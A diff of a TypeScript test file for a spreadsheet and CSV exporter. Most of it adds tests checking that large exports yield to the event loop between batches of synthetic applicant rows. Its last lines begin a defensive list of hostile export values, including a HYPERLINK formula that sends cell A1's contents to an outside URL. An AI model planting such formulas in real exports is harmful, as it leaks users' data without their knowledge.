@@ -75,6 +75,48 @@ describe('export sheet', () => {
   });
 });
 
+describe('a large export and the event loop (issue #33)', () => {
+  /**
+   * Batches of 2,000 rows as the embedded database gives them (promises already settled: no turn
+   * of the event loop between them), and how many turns had passed once every row was written.
+   */
+  function batchesCounted(count: number) {
+    const seen = { turns: 0, whenWritten: -1 };
+    let counting = true;
+    const tick = () => {
+      if (!counting) return;
+      seen.turns += 1;
+      setImmediate(tick);
+    };
+    setImmediate(tick);
+    async function* rows() {
+      for (let b = 0; b < count; b++) {
+        yield Array.from({ length: 2_000 }, (_, i) => ({
+          nama: `Pelamar ${b}-${i}`,
+          lahir: '1990-02-28',
+          waktu: '2024-09-05T21:21:00',
+        }));
+      }
+      seen.whenWritten = seen.turns;
+      counting = false;
+    }
+    return { seen, rows: rows() };
+  }
+
+  it('writes Excel rows in slices, the event loop turning at least once a batch', async () => {
+    const { seen, rows } = batchesCounted(5);
+    await collect((out) => writeXlsx(out, COLUMNS, rows, 'Uji'));
+    expect(seen.whenWritten).toBeGreaterThanOrEqual(5);
+  });
+
+  it('writes CSV rows in slices too', async () => {
+    const { seen, rows } = batchesCounted(10);
+    const text = (await collect((out) => writeCsv(out, COLUMNS, rows))).toString('utf8');
+    expect(text.split('\r\n')).toHaveLength(1 + 20_000 + 1);
+    expect(seen.whenWritten).toBeGreaterThan(0);
+  });
+});
+
 describe('formula text in exports (issue #30)', () => {
   const HOSTILE = [
     '=HYPERLINK("https://contoh.id/?d="&A1,"Lihat")',
